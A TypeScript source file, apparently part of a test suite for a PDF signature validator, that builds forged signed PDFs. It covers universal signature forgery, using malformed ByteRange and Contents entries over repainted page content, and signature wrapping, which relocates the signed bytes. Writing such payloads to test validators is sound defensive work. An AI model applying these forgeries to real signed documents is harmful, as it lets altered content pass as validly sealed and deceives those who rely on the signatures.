import { readSeal } from "../../../sealing/support/seals.ts";
import { tableRevision, Writer } from "../revisions.ts";
import { lastStartxref, type Target } from "../target.ts";
import type { Payload } from "./attack.ts";
import { paint } from "./pages.ts";

/** Signature dictionaries that refer to another file: universal signature forgery and signature wrapping. */

const RANGES: Readonly<Record<string, string>> = {
  "no range": "",
  "a range of null": "/ByteRange null",
  "a range of nothing": "/ByteRange [0 0 0 0]",
  "a range that is too short": "/ByteRange [0 100]",
  "a negative range": "/ByteRange [0 -1 -1 -1]",
  "a range of the whole file": "/ByteRange [0 99999999 99999999 0]",
};

const CONTENTS: Readonly<Record<string, string>> = {
  "no contents": "",
  "contents of null": "/Contents null",
  "empty contents": "/Contents <>",
  "contents of a zero": "/Contents <00>",
};

const signature = (more: string): string =>
  `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached ${more} >>`;

const forgery = (name: string, dictionary: (target: Target) => string): Payload => ({
  name,
  make: (target) => {
    const [content] = target.contents;
    const painted = content === undefined ? {} : { [content]: paint() };
    return { objects: { [target.seal.value]: dictionary(target), ...painted } };
  },
});

const rangeOf = ({ bytes }: Target): string => `/ByteRange [${readSeal(bytes).range.join(" ")}]`;

const contentsOf = ({ bytes }: Target): string => {
  const { range } = readSeal(bytes);
  return `/Contents ${bytes.toString("latin1", range[1], range[2])}`;
};

/** The seal's dictionary rewritten, over a page with other content. */
export const FORGERIES: readonly Payload[] = [
  ...Object.entries(RANGES).map(([name, range]) =>
    forgery(name, (target) => signature(`${range} ${contentsOf(target)}`)),
  ),
  ...Object.entries(CONTENTS).map(([name, contents]) =>
    forgery(name, (target) => signature(`${rangeOf(target)} ${contents}`)),
  ),
  forgery("the same dictionary at another place", (target) =>
    signature(`${rangeOf(target)} ${contentsOf(target)}`),
  ),
  forgery("a dictionary of no kind", () => "<< >>"),
];

/** Moves the second signed part behind a page of other content, and refers to it in a new dictionary. */
export function wrapped(target: Target): Buffer {
  const { range } = readSeal(target.bytes);
  const [, gapStart, gapEnd, length] = range;
  const writer = new Writer(target.bytes.subarray(0, gapEnd));
  writer.add("\n").object(target.contents[0]!, paint());
  const at = writer.at;
  const moved = writer.add(target.bytes.subarray(gapEnd)).bytes;
  const contents = target.bytes.toString("latin1", gapStart, gapEnd);
  const dictionary = signature(`/ByteRange [0 ${gapStart} ${at} ${length}] /Contents ${contents}`);
  const parts: Target = { ...target, bytes: moved, startxref: lastStartxref(moved) + at - gapEnd };
  return tableRevision(parts, {
    objects: { [target.seal.value]: dictionary, [target.contents[0]!]: paint() },
  });
}
